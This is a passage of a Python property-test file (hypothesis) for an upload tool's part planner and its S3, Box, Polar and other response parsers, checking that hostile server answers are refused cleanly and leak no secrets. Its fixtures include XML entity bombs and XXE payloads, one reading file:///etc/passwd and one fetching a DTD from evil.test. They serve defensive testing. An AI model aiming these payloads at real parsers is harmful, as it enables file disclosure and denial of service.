"""Property tests (hypothesis) for the part planner and every parser of a server's answer.

Issue 5 asks for property tests for the part planner and every response parser. The
per-provider files hold some; this file holds the rest, so that together every function
that reads or judges what a server says has one. Where each is covered ("here" = this
file, by section):

=====================================================  ==========================================
parser / judge                                         property tests
=====================================================  ==========================================
core.plan choose_part_size, check_file_size,           test_plan.py (S3's limits); here, PLANNER:
plan_parts, and each provider's part_size              every provider's real limits
core.transfer retry_after (Retry-After),               here, HEADERS
check_transient (status triage)
s3xml parse_xml, text, local_name, error_of            here, S3 XML: round trips, hostile bytes,
                                                       entity bombs, DOCTYPE, encodings
s3xml raise_for_s3, etag_receipt                       here, S3 XML; and RECEIPTS for every
(the ETag / status judge of every S3-backed part)      provider that wraps it
s3 open (Initiate), _list_parts (ListParts),           here, S3 XML (round trips) and
list_uploads (ListMultipartUploads), complete          HOSTILE CALLS
(Complete, 200-with-Error), abort_upload, check
gumroad _json_object, _server_text, _judge,            test_gumroad_hostile.py (open, complete,
_refusal, _links_problem                               abort, check); here: presign round trip,
                                                       the token never echoed
gumroad link_problem, receipt                          here, GUMROAD and RECEIPTS
polar parse_file_upload (_parse_part, _epoch,          test_polar_parse.py; here: round trip
check_part_url, _headers)
polar listed_uploaded, polar_error_text                test_polar_parse.py; here: deep nesting,
                                                       secrets (through raise_for_polar)
polar parse_file_read, raise_for_polar, receipt,       here, POLAR, RECEIPTS, HOSTILE CALLS
check
box load_json, parse_session, parse_part,              test_box_adapter.py (hostile); here:
parse_uploaded_part, parse_parts_page,                 round trips
parse_committed, error_of, receipt
box raise_for_box, iso_time, check                     here, BOX and HOSTILE CALLS
fileflare parse_signed (_link, signed_ids,             test_fileflare_answers.py (hostile);
_integer, _usable_url), error_text, error_for          here: round trip, huge numbers, secrets
fileflare link_expiry, receipt, check                  here, FILEFLARE, RECEIPTS, HOSTILE CALLS
wunderlist parse_upload, parse_finished,               test_wunderlist_parsers.py (hostile);
error_for, read_json, parse_time,                      here: round trips, secrets
PartCredentials.from_remote
wunderlist receipt, check                              here, RECEIPTS and HOSTILE CALLS
=====================================================  ==========================================

Every refusal must be a PartdeckError whose message is one line of printable text (no
control characters), of bounded length, holding no signature or token the server echoed
in a shape ``tui.core.redact`` knows, nor, where the adapter holds it (Gumroad, Polar),
the account's token quoted bare. Any other exception fails; so does a call that never
stops asking the server, or waits for longer than two minutes at a time.
"""

from __future__ import annotations

import asyncio
import calendar
import contextlib
import email.utils
import hashlib
import itertools
import json
import math
import re
import time
import tracemalloc
import unicodedata
from collections.abc import Awaitable, Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta, timezone
from typing import Any
from unittest import mock
from xml.sax.saxutils import escape

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tui.core.errors import (
    CallUnsupported,
    CompleteUnknown,
    PartdeckError,
    RejectedError,
    RemoteError,
    TargetExpired,
    TransientError,
    UsageError,
)
from tui.core.model import Part, Session
from tui.core.plan import plan_parts
from tui.core.ports import Receipt, RemotePart, RemoteUpload
from tui.core.transfer import check_transient, retry_after
from tui.core.units import GiB, MiB, TiB
from tui.providers import box, fileflare, gumroad, polar, s3, s3xml, wunderlist
from tui.providers.base import BaseProvider


def props(examples: int) -> settings:
    """Hypothesis settings for this file: no per-example deadline (CI machines are slow)."""
    return settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
    )


# == shared: secrets, messages, hostile values =============================================

TOKEN = "gT0kenQ7wE3rT5yU8iO1pA4sD6fG9hJ2"
"""The account's own token: every adapter that holds it must cut it out of messages."""
SIGNATURE = "5d41402abc4b2a76b9719d911017c592aa0f1e2b3c4d5e6f7a8b9c0d1e2f3a4b"
"""A signature or foreign token a server echoes: only its shape can give it away."""
S3_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
"""The S3 account's secret key: it never travels, so it must never appear either."""

SECRET_FORMS = (
    "Bearer {s}",
    "bearer {s}",
    "access_token={s}",
    "token: {s}",
    '"token": "{s}"',
    "api_key={s}",
    "X-Amz-Signature={s}",
    "signature={s}",
    "Authorization: AWS AKIDEXAMPLE:{s}",
    "Authorization: Bearer {s}",
    "https://bucket.s3.test/key?X-Amz-Signature={s}&X-Amz-Date=20260101T000000Z",
    "http://127.0.0.1:9000/b/k?partNumber=1&uploadId=u&Signature={s}",
)
"""How servers echo a secret they were sent: the shapes ``tui.core.redact`` knows."""


def leaks(text: str, secret: str) -> bool:
    """True when ``text`` holds ``secret`` or any 12-character piece of it."""
    return any(secret[i : i + 12] in text for i in range(len(secret) - 11))


def one_line(exc: BaseException, *, limit: int = 1000, token: bool = False) -> str:
    """The message of a refusal, checked: a PartdeckError, one printable line, bounded,
    with no signature in it, nor (``token``: for adapters that hold it) the account's
    token quoted bare. Anything else (KeyError, RecursionError...) fails the test."""
    assert isinstance(exc, PartdeckError), f"{type(exc).__name__}: {exc}"
    text = str(exc)
    assert text and text == text.strip()
    assert not any(unicodedata.category(c) == "Cc" for c in text), repr(text)
    assert len(text) <= limit, f"{len(text)} characters"
    assert not (token and leaks(text, TOKEN)), text
    assert not leaks(text, SIGNATURE), text
    assert not leaks(text, S3_SECRET), text
    return text


AROUND = st.text(max_size=40)


def echoed(secret: str) -> st.SearchStrategy[str]:
    """Server text that echoes ``secret`` in one of the shapes servers use."""
    return st.builds(
        lambda a, form, b: f"{a} {form.format(s=secret)} {b}",
        AROUND,
        st.sampled_from(SECRET_FORMS),
        AROUND,
    )


def raw_token() -> st.SearchStrategy[str]:
    """Server text holding the account's token bare, anywhere (after long padding too)."""
    padding = AROUND | st.integers(0, 1200).map(lambda n: " " * n)
    return st.builds(lambda a, b: f"{a}{TOKEN}{b}", padding, AROUND)


SERVER_TEXT = st.one_of(
    st.text(max_size=60),
    echoed(SIGNATURE),
    st.sampled_from(
        ["\x1b[2J\x1b[H", "line one\nline two\r\n", "\x00\x07\x08", "\u2028", "x" * 5000]
    ),
)
"""What a server may write where people read: plain, secret-bearing, control characters."""
TOKEN_TEXT = SERVER_TEXT | raw_token()
"""The same, or the account's token quoted bare: for the adapters that hold the token."""

HTML = (
    b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n"
    b"<body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>\n"
)
KEYS = st.sampled_from(
    [
        "id",
        "type",
        "code",
        "message",
        "error",
        "errors",
        "detail",
        "status",
        "state",
        "part",
        "parts",
        "urls",
        "entries",
        "total_count",
        "upload_id",
        "key",
        "success",
        "items",
        "meta",
        "total",
        "pagination",
        "user",
        "name",
    ]
)
SPECIAL_TEXT = st.sampled_from(
    [
        "",
        " ",
        "9" * 5000,
        "1" + "0" * 400,
        "1e999",
        "NaN",
        "-0",
        "true",
        "https://s3.test/k?X-Amz-Signature=" + SIGNATURE,
        "http://127.0.0.1:1/p",
        "http://[::1",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "accepted",
        "already_gone",
        "finished",
        "upload_session",
        "file",
        "\x1b[31mred\x1b[0m",
        HTML.decode(),
    ]
)
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(-(10**300), 10**300),
    st.floats(),
    st.text(max_size=40),
    SPECIAL_TEXT,
    SERVER_TEXT,
)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(KEYS | AROUND, inner, max_size=6),
    max_leaves=25,
)
"""Any JSON value: every type, huge numbers, NaN and infinities, unicode, nested junk."""


def encode(value: Any) -> bytes:
    return json.dumps(value).encode()


SPECIAL_BODIES = st.sampled_from(
    [
        b"",
        b" ",
        b"null",
        b"[" * 50_000,
        b'{"a":' * 50_000,
        b"[" * 50_000 + b"]" * 50_000,
        b"9" * 5000,
        b'{"id": ' + b"9" * 5000 + b"}",
        b"1e999",
        b"NaN",
        HTML,
        b"\xef\xbb\xbf{}",
        b"\xff\xfe{\x00}\x00",
        b'{"message": "\xff\xfe"}',
        b"\x00" * 16,
    ]
)
HOSTILE_BYTES = st.one_of(
    JSON.map(encode),
    st.binary(max_size=200),
    st.text(max_size=200).map(str.encode),
    SPECIAL_BODIES,
)
"""Any body at all: JSON of any shape, bytes, text, HTML, deep nesting, huge numbers."""


def truncations(bodies: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    """A valid answer cut short anywhere."""
    return bodies.flatmap(lambda b: st.integers(0, max(0, len(b) - 1)).map(lambda n: b[:n]))


BYTES = b"the bytes of one part"
MD5 = hashlib.md5(BYTES).hexdigest()
SHA1 = hashlib.sha1(BYTES).hexdigest()
SHA256 = hashlib.sha256(BYTES).hexdigest()
OTHER_MD5 = hashlib.md5(b"other bytes").hexdigest()


def a_part(number: int = 1, start: int = 0, end: int = len(BYTES)) -> Part:
    return Part("s" * 32, number, start, end, md5=MD5, sha1=SHA1, sha256=SHA256)


def a_session(provider: str, remote: dict[str, Any], size: int = len(BYTES)) -> Session:
    return Session(
        id="s" * 32,
        account=f"{provider}-account",
        provider=provider,
        path=f"/data/{provider}.bin",
        size=size,
        mtime_ns=0,
        part_size=size,
        remote=remote,
        location=f"{provider} location",
    )


# -- a scripted server ----------------------------------------------------------------------

Answer = tuple[int, bytes, dict[str, str]]
Route = Callable[[httpx.Request], Answer]


def script(answers: Sequence[Answer]) -> Route:
    """Answer requests in order; the last answer repeats."""
    queue = list(answers)

    def route(_: httpx.Request) -> Answer:
        return queue.pop(0) if len(queue) > 1 else queue[0]

    return route


@contextlib.contextmanager
def instant_sleep() -> Iterator[list[float]]:
    """Make every ``asyncio.sleep`` return at once; yield the waits asked for."""
    waits: list[float] = []

    async def sleep(delay: float, result: Any = None) -> Any:
        waits.append(delay)
        return result

    with mock.patch.object(asyncio, "sleep", sleep):
        yield waits


def call_server(
    make: Callable[[httpx.AsyncClient], Any],
    call: Callable[[Any], Awaitable[Any]],
    route: Route,
    *,
    limit: int = 200,
) -> tuple[Any, int, list[float]]:
    """Drive one provider call against ``route``: (result or RemoteError, requests, waits).

    More than ``limit`` requests means the provider does not stop (a loop on a hostile
    answer), which fails the test, as does any exception that is not a RemoteError or a
    UsageError (the one-line refusal of a call the server does not implement).
    """
    count = 0

    def handler(request: httpx.Request) -> httpx.Response:
        nonlocal count
        count += 1
        assert count <= limit, f"{count} requests: the provider does not stop"
        status, body, headers = route(request)
        return httpx.Response(status, content=body, headers=headers)

    async def go() -> Any:
        async with httpx.AsyncClient(transport=httpx.MockTransport(handler)) as client:
            try:
                return await call(make(client))
            except (RemoteError, UsageError) as exc:
                return exc

    with instant_sleep() as waits:
        result = asyncio.run(go())
    for wait in waits:
        assert math.isfinite(wait) and 0 <= wait <= 120, f"waits {wait}s"
    return result, count, waits


def gumroad_provider(client: httpx.AsyncClient) -> gumroad.GumroadProvider:
    return gumroad.GumroadProvider(
        client, token=TOKEN, base_url="https://g.test/v2", clock=lambda: 1000.0
    )


def polar_provider(client: httpx.AsyncClient) -> polar.PolarProvider:
    return polar.PolarProvider(client, base_url="https://polar.test", token=TOKEN)


def box_provider(client: httpx.AsyncClient) -> box.BoxProvider:
    return box.BoxProvider(
        client,
        token=TOKEN,
        base_url="https://api.box.test/2.0",
        upload_url="https://upload.box.test/api/2.0",
        clock=lambda: 1000.0,
    )


def fileflare_provider(client: httpx.AsyncClient) -> fileflare.FileflareProvider:
    return fileflare.FileflareProvider(
        client, base_url="https://ff.test/api", token=TOKEN, clock=lambda: 1000.0
    )


def wunderlist_provider(client: httpx.AsyncClient) -> wunderlist.WunderlistProvider:
    return wunderlist.WunderlistProvider(
        client,
        base_url="https://wl.test/api/v1",
        token=TOKEN,
        client_id="client-id",
        clock=lambda: 1000.0,
    )


def s3_provider(client: httpx.AsyncClient, min_part_size: int | None = None) -> s3.S3Provider:
    return s3.S3Provider(
        client,
        bucket="bucket",
        access_key="AKIDEXAMPLE",
        secret_key=S3_SECRET,
        endpoint_url="https://s3.test",
        min_part_size=min_part_size,
    )


NO_SERVER = httpx.AsyncClient(transport=httpx.MockTransport(lambda _: httpx.Response(599)))
"""For the planner: part_size never calls the server."""


# == PLANNER ===============================================================================

PLANNERS: dict[str, BaseProvider] = {
    "gumroad": gumroad_provider(NO_SERVER),
    "polar": polar_provider(NO_SERVER),
    "box": box_provider(NO_SERVER),
    "fileflare": fileflare_provider(NO_SERVER),
    "wunderlist": wunderlist_provider(NO_SERVER),
    "s3": s3_provider(NO_SERVER),
    "s3 min_part_size=1": s3_provider(NO_SERVER, 1),
    "s3 min_part_size=64MiB+1": s3_provider(NO_SERVER, 64 * MiB + 1),
    "s3 min_part_size=5GiB": s3_provider(NO_SERVER, 5 * GiB),
}
"""Each provider as configured, with its module's real limits."""


def edges(provider: BaseProvider) -> list[int]:
    """Sizes at and around every limit of a provider."""
    limits = provider.limits
    points = [
        0,
        1,
        limits.min_size,
        limits.min_part,
        limits.default_part,
        limits.max_part,
        limits.min_part * limits.max_parts,
        limits.default_part * limits.max_parts,
        limits.max_part * limits.max_parts,
        box.MIN_SIZE,
        512 * MiB,
        8 * GiB,
    ]
    if limits.max_size is not None:
        points.append(limits.max_size)
    return sorted({max(0, p + d) for p in points for d in (-1, 0, 1)})


@st.composite
def plan_cases(draw: st.DrawFn) -> tuple[str, int, int | None]:
    name = draw(st.sampled_from(sorted(PLANNERS)))
    provider = PLANNERS[name]
    limits = provider.limits
    beyond = max(limits.max_size or 0, limits.max_part * limits.max_parts) * 5 // 4
    edge = st.sampled_from(edges(provider))
    size = draw(st.one_of(edge, edge, st.integers(0, 64 * MiB), st.integers(0, beyond)))
    requested = draw(
        st.none()
        | st.integers(1, 6 * GiB)
        | st.sampled_from([provider.limits.min_part - 1, provider.limits.max_part + 1, 5 * MiB])
    )
    return name, size, requested


@props(700)
@given(case=plan_cases())
@example(case=("box", 5 * GiB * 10_000 + 1, None))  # parts would outgrow 5 GiB
@example(case=("gumroad", gumroad.MAX_SIZE + 1, None))
@example(case=("gumroad", 0, None))
@example(case=("box", box.MIN_SIZE - 1, None))
@example(case=("polar", 5 * TiB, None))  # grown to fit 10,000 parts
@example(case=("s3", 5 * TiB, 5 * MiB))  # a request that would need too many parts
@example(case=("s3 min_part_size=5GiB", 5 * TiB, None))
@example(case=("wunderlist", 5 * TiB + 1, None))
@example(case=("fileflare", 1, None))
def test_every_provider_plans_parts_that_cover_the_file_within_its_limits(
    case: tuple[str, int, int | None],
) -> None:
    name, size, requested = case
    provider = PLANNERS[name]
    limits = provider.limits
    try:
        part_size = provider.part_size(size, requested)
    except UsageError as exc:
        text = one_line(exc, limit=400)
        assert "file" in text or "part size" in text
        asked_wrong = (
            requested is not None
            and not provider.server_part_size
            and not limits.min_part <= requested <= limits.max_part
        )
        too_big = limits.max_size is not None and size > limits.max_size
        cannot_fit = size > limits.max_part * limits.max_parts
        assert size < limits.min_size or too_big or asked_wrong or cannot_fit, text
        return
    assert size >= limits.min_size
    assert limits.max_size is None or size <= limits.max_size
    ranges = plan_parts(size, part_size)
    # A file in one part (S3: one PutObject under the multipart threshold) is its own
    # last part, which S3's minimum does not bind.
    assert limits.min_part <= part_size <= limits.max_part or (
        len(ranges) == 1 and size < limits.min_part
    )
    # Every byte exactly once, in order, no gap, no overlap.
    assert ranges[0][0] == 0 and ranges[-1][1] == size
    assert all(a[1] == b[0] for a, b in itertools.pairwise(ranges))
    assert len(ranges) <= limits.max_parts
    assert all(end - start == part_size for start, end in ranges[:-1])
    assert 0 < ranges[-1][1] - ranges[-1][0] <= part_size or size == 0
    if provider.server_part_size:
        assert part_size == provider.part_size(size, None)  # a request is ignored
    elif size < getattr(provider, "multipart_threshold", 0):
        assert len(ranges) == 1  # one PutObject, whatever part size was asked for
    elif requested is not None and -(-size // requested) <= limits.max_parts:
        assert part_size == requested


# == HEADERS ===============================================================================

HEADER_TEXT = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40)
HTTP_DATES = st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)).map(
    lambda d: email.utils.format_datetime(d.replace(tzinfo=UTC), usegmt=True)
)


@props(200)
@given(
    value=HEADER_TEXT
    | HTTP_DATES
    | st.floats().map(str)
    | st.integers().map(str)
    | st.sampled_from(["inf", "-inf", "nan", "1e999", "1_000", " 5 ", "+3", "0x10"])
)
def test_retry_after_is_none_or_a_finite_wait(value: str) -> None:
    wait = retry_after(httpx.Response(503, headers={"Retry-After": value}))
    assert wait is None or (math.isfinite(wait) and wait >= 0)


@props(70)
@given(seconds=st.integers(0, 10**6), as_date=st.booleans())
def test_retry_after_round_trips_seconds_and_dates(seconds: int, as_date: bool) -> None:
    value = str(seconds)
    if as_date:
        value = email.utils.formatdate(time.time() + seconds, usegmt=True)
    wait = retry_after(httpx.Response(429, headers={"Retry-After": value}))
    assert wait is not None
    assert abs(wait - seconds) <= (2 if as_date else 0)


@props(130)
@given(status=st.integers(100, 599), value=st.none() | HEADER_TEXT)
def test_check_transient_triages_by_status(status: int, value: str | None) -> None:
    headers = {} if value is None else {"Retry-After": value}
    response = httpx.Response(status, headers=headers)
    try:
        check_transient(response, "part 3")
    except CallUnsupported as exc:
        assert status in (405, 501)
        assert one_line(exc).startswith("part 3: ") and exc.status == status
        return
    except TransientError as exc:
        assert status >= 500 or status in (408, 429)
        assert status != 501
        assert one_line(exc).startswith("part 3: ")
        assert exc.status == status and exc.retry_after == retry_after(response)
        return
    assert status < 500 and status not in (405, 408, 429)


# == S3 XML ================================================================================

NS = "http://s3.amazonaws.com/doc/2006-03-01/"
XML_TEXT = st.text(
    st.characters(
        min_codepoint=0x20, exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"
    )
    | st.sampled_from("\t\n"),
    min_size=1,
    max_size=24,
)
"""Element text any XML document can carry (no \\r: XML turns it into \\n)."""
S3_CODES = st.sampled_from(
    [
        "NoSuchUpload",
        "NoSuchBucket",
        "AccessDenied",
        "SignatureDoesNotMatch",
        "InternalError",
        "SlowDown",
        "ServiceUnavailable",
        "RequestTimeout",
        "BadDigest",
        "EntityTooSmall",
        "InvalidPart",
        "InvalidPartOrder",
        "RequestTimeTooSkewed",
    ]
)


def xml_doc(root: str, children: str, ns: bool = False, prolog: bool = True) -> bytes:
    xmlns = f' xmlns="{NS}"' if ns else ""
    head = '<?xml version="1.0" encoding="UTF-8"?>\n' if prolog else ""
    return f"{head}<{root}{xmlns}>{children}</{root}>".encode()


def el(tag: str, value: Any) -> str:
    return "" if value is None else f"<{tag}>{escape(str(value))}</{tag}>"


def error_doc(code: str | None, message: str | None, ns: bool = False) -> bytes:
    return xml_doc("Error", el("Code", code) + el("Message", message) + el("RequestId", "R1"), ns)


ERROR_DOCS = st.builds(
    error_doc,
    st.none() | S3_CODES | XML_TEXT,
    st.none()
    | st.sampled_from(["Request has expired", "Access Denied", "Please reduce your rate."])
    | XML_TEXT
    | echoed(SIGNATURE).map(lambda t: "".join(c for c in t if c.isprintable())),
    st.booleans(),
)


def list_parts_doc(
    parts: Sequence[tuple[int, int, str | None]],
    truncated: bool = False,
    marker: Any = None,
    ns: bool = False,
) -> bytes:
    body = el("Bucket", "bucket") + el("Key", "k") + el("UploadId", "U1")
    body += el("IsTruncated", "true" if truncated else "false")
    body += el("NextPartNumberMarker", marker)
    for number, size, etag in parts:
        body += "<Part>" + el("PartNumber", number) + el("ETag", etag) + el("Size", size)
        body += el("LastModified", "2026-01-01T00:00:00.000Z") + "</Part>"
    return xml_doc("ListPartsResult", body, ns)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10))
    + b"]>\n<Error><Code>&lol9;</Code></Error>"
)
QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE q [<!ENTITY a "'
    + b"a" * 100_000
    + b'">]>\n<ListPartsResult><Part><ETag>'
    + b"&a;" * 400
    + b"</ETag></Part></ListPartsResult>"
)
HOSTILE_XML = [
    BILLION_LAUGHS,
    QUADRATIC,
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<Error><Code>&e;</Code></Error>",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]><Error/>',
    b'<!DOCTYPE Error [<!ENTITY c "SlowDown">]><Error><Code>&c;</Code></Error>',
    b"<!DOCTYPE Error><Error><Code>InternalError</Code></Error>",
    b"<a>" * 100_000 + b"</a>" * 100_000,
    b"<Error><Code>SlowDown</Code>",
    b"<Error><Code>SlowDown</Code></Error><Error/>",
    b"<?xml version='1.0'?>",
    b"<Error>\x00</Error>",
    HTML,
]
"""Entity bombs, external entities, DOCTYPEs, deep nesting, truncation, two roots, HTML."""
ENCODINGS = [
    "UTF-8",
    "utf-16",
    "latin-1",
    "ascii",
    "cp037",
    "bogus",
    "zlib_codec",
    "hex_codec",
    "rot_13",
    "big5",
    "gb18030",
    "idna",
    "punycode",
    "undefined",
    "x" * 200,
]
ENCODED_DOCS = st.builds(
    lambda enc, doc: f'<?xml version="1.0" encoding="{enc}"?>\n'.encode() + doc,
    st.sampled_from(ENCODINGS),
    st.sampled_from([b"<Error><Code>SlowDown</Code></Error>", b"<a>\xe9\xff</a>", b"<a/>"]),
)
XML_BODIES = st.one_of(
    ERROR_DOCS,
    truncations(ERROR_DOCS),
    st.sampled_from(HOSTILE_XML),
    ENCODED_DOCS,
    HOSTILE_BYTES,
)


@props(250)
@given(body=XML_BODIES)
def test_parse_xml_returns_an_element_or_refuses_cleanly(body: bytes) -> None:
    try:
        root = s3xml.parse_xml(body, "list parts")
    except RemoteError as exc:
        text = one_line(exc, limit=200)
        assert text.startswith("list parts: the server's answer is ")
        assert isinstance(exc, TransientError) or len(body) > s3xml.MAX_XML
        return
    assert isinstance(s3xml.local_name(root), str)
    assert s3xml.text(root, "Code") is None or isinstance(s3xml.text(root, "Code"), str)


@props(250)
@given(body=XML_BODIES)
def test_error_of_never_raises(body: bytes) -> None:
    code, message = s3xml.error_of(body)
    assert code is None or isinstance(code, str)
    assert message is None or isinstance(message, str)


@pytest.mark.parametrize("body", HOSTILE_XML[:6], ids=lambda b: repr(b[:30]))
def test_entity_bombs_and_doctypes_are_refused_without_blowing_up_memory(body: bytes) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(TransientError) as caught:
            s3xml.parse_xml(body, "complete")
        assert s3xml.error_of(body) == (None, None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    one_line(caught.value)
    assert peak < 8 * MiB, f"peak {peak:,} bytes"


@props(200)
@given(code=st.none() | S3_CODES | XML_TEXT, message=st.none() | XML_TEXT, ns=st.booleans())
def test_error_documents_round_trip(code: str | None, message: str | None, ns: bool) -> None:
    assert s3xml.error_of(error_doc(code, message, ns)) == (code, message)


@props(250)
@given(status=st.integers(100, 599), body=ERROR_DOCS | XML_BODIES)
def test_raise_for_s3_maps_every_answer_to_one_clear_line(status: int, body: bytes) -> None:
    response = httpx.Response(status, content=body)
    try:
        s3xml.raise_for_s3(response, "part 2")
    except RemoteError as exc:
        text = one_line(exc, limit=500)
        assert text.startswith("part 2: ")
        assert not 200 <= status < 300
        code = s3xml.error_of(body)[0]
        lacking = status in s3xml.UNSUPPORTED_STATUSES or code in s3xml._UNSUPPORTED_CODES
        transient = status >= 500 or status in (408, 429) or code in s3xml._TRANSIENT_CODES
        assert isinstance(exc, TransientError) == (transient and not lacking)
        assert isinstance(exc, CallUnsupported) == lacking
        assert exc.status == status
        return
    assert 200 <= status < 300


ETAGS = st.one_of(
    st.none(),
    st.sampled_from(
        [
            *(f'"{MD5}"', MD5, f'"{MD5.upper()}"', f' "{MD5}" ', f'W/"{MD5}"'),
            *(f'"{OTHER_MD5}"', OTHER_MD5, '"abc-3"', f'"{MD5}-2"', "", '""', " "),
        ]
    ),
    HEADER_TEXT,
)
S3_STATUSES = st.sampled_from([200, 201, 204, 400, 403, 404, 408, 409, 412, 429, 500, 503]) | (
    st.integers(100, 599)
)


def s3_response(status: int, etag: str | None, body: bytes) -> httpx.Response:
    return httpx.Response(status, content=body, headers={} if etag is None else {"ETag": etag})


@props(200)
@given(status=S3_STATUSES, etag=ETAGS, body=XML_BODIES)
def test_etag_receipt_verifies_only_the_parts_md5(
    status: int, etag: str | None, body: bytes
) -> None:
    try:
        receipt = s3xml.etag_receipt(a_part(), s3_response(status, etag, body), "part 1")
    except RemoteError as exc:
        one_line(exc)
        if 200 <= status < 300 and etag and etag.strip().strip('"').strip().lower() == OTHER_MD5:
            assert isinstance(exc, TransientError)  # a corrupted ETag is sent again
        return
    assert 200 <= status < 300 and etag is not None
    assert isinstance(receipt, Receipt)
    assert receipt.verified == (receipt.etag == MD5)
    if not receipt.verified:  # what cannot be checked is not an MD5 at all
        assert not re.fullmatch(r"[0-9a-f]{32}", (receipt.etag or "").lower())


# -- S3's control answers, generated from values and read back -------------------------------

S3_PARTS = st.lists(
    st.tuples(
        st.integers(1, 10_000),
        st.integers(0, 5 * GiB),
        st.none() | st.just(f'"{MD5}"') | XML_TEXT,
    ),
    max_size=12,
    unique_by=lambda p: p[0],
).map(sorted)


def s3_session(remote: dict[str, Any] | None = None) -> Session:
    return a_session("s3", remote or {"key": "dir/file.bin", "upload_id": "U1", "bucket": "bucket"})


@props(100)
@given(parts=S3_PARTS, page=st.integers(1, 5), ns=st.booleans())
def test_list_parts_pages_round_trip(
    parts: list[tuple[int, int, str | None]], page: int, ns: bool
) -> None:
    pages = [parts[i : i + page] for i in range(0, len(parts), page)] or [[]]
    by_marker: dict[str, bytes] = {}
    marker = ""
    for i, chunk in enumerate(pages):
        last = i == len(pages) - 1
        next_marker = None if last else chunk[-1][0]
        by_marker[marker] = list_parts_doc(chunk, not last, next_marker, ns)
        marker = str(next_marker)

    def route(request: httpx.Request) -> Answer:
        assert request.url.params["uploadId"] == "U1"
        return 200, by_marker[request.url.params.get("part-number-marker", "")], {}

    listed, count, _ = call_server(s3_provider, lambda p: p.remote_parts(s3_session()), route)
    want = [RemotePart(n, size, etag.strip('"') if etag else None) for n, size, etag in parts]
    assert listed == want
    assert count == len(pages)


@props(100)
@given(
    pages=st.lists(
        XML_BODIES
        | st.builds(list_parts_doc, S3_PARTS, st.booleans(), st.integers(-5, 10_005) | JSON),
        min_size=1,
        max_size=4,
    )
)
@example(pages=[list_parts_doc([(1, 5, None)], True, 1)])  # the same page, over and over
@example(pages=[list_parts_doc([(3, 5, None)], True, 3), list_parts_doc([(2, 5, None)], True, 2)])
@example(
    pages=[xml_doc("ListPartsResult", "<Part><PartNumber>x</PartNumber><Size>1</Size></Part>")]
)
@example(
    pages=[
        xml_doc(
            "ListPartsResult", f"<Part><PartNumber>1</PartNumber><Size>{'9' * 5000}</Size></Part>"
        )
    ]
)
def test_list_parts_on_hostile_pages_ends(pages: list[bytes]) -> None:
    """Whatever the pages say (a marker that never moves, junk), listing ends."""
    answers = [(200, page, {}) for page in pages]
    listed, count, _ = call_server(
        s3_provider, lambda p: p.remote_parts(s3_session()), script(answers), limit=50
    )
    if isinstance(listed, RemoteError):
        one_line(listed)
    else:
        assert all(isinstance(p, RemotePart) for p in listed)
        assert all(isinstance(p.number, int) and isinstance(p.size, int) for p in listed)
    assert count <= len(pages) + 1


def test_list_parts_refuses_a_page_with_an_unreadable_entry() -> None:
    """Skipping the entry would read as "part 2 is not held" and send it again."""
    page = xml_doc(
        "ListPartsResult",
        "<Part><PartNumber>1</PartNumber><Size>5</Size></Part>"
        "<Part><PartNumber>two</PartNumber><Size>5</Size></Part>",
    )
    listed, count, _ = call_server(
        s3_provider, lambda p: p.remote_parts(s3_session()), script([(200, page, {})])
    )
    assert isinstance(listed, RejectedError)
    assert str(listed) == (
        "list parts: the server listed a part without a readable PartNumber and Size, so its "
        "list of parts cannot be trusted"
    )
    assert count == 1


@props(70)
@given(
    markers=st.lists(
        st.tuples(st.sampled_from(["a", "k", "z"]), st.none() | st.sampled_from(["u1", "u2"])),
        min_size=1,
        max_size=6,
    )
)
def test_list_uploads_ends_whatever_the_markers_say(markers: list[tuple[str, str | None]]) -> None:
    pages = [
        xml_doc(
            "ListMultipartUploadsResult",
            el("IsTruncated", "true") + el("NextKeyMarker", key) + el("NextUploadIdMarker", upload),
        )
        for key, upload in markers
    ]
    answers = [(200, page, {}) for page in pages]
    found, count, _ = call_server(
        s3_provider, lambda p: p.list_uploads(), script(answers), limit=50
    )
    assert count <= len(pages) + 1
    if isinstance(found, RemoteError):
        assert isinstance(found, RejectedError) and "repeat" in one_line(found)
    else:
        assert found == []


@props(100)
@given(upload_id=XML_TEXT, ns=st.booleans())
def test_initiate_round_trips_the_upload_id(upload_id: str, ns: bool) -> None:
    body = xml_doc(
        "InitiateMultipartUploadResult",
        el("Bucket", "bucket") + el("Key", "k") + el("UploadId", upload_id),
        ns,
    )
    opened, _, _ = call_server(
        s3_provider, lambda p: p.open(s3_session({}), []), script([(200, body, {})])
    )
    assert opened.remote["upload_id"] == upload_id
    assert opened.remote["key"] == "s3.bin"


UPLOADS = st.lists(
    st.tuples(
        XML_TEXT,
        XML_TEXT,
        st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(9999, 1, 1)),
    ),
    max_size=6,
    unique_by=lambda u: (u[0], u[1]),
)


@props(70)
@given(uploads=UPLOADS, ns=st.booleans())
def test_list_multipart_uploads_round_trips(
    uploads: list[tuple[str, str, datetime]], ns: bool
) -> None:
    body = "".join(
        "<Upload>"
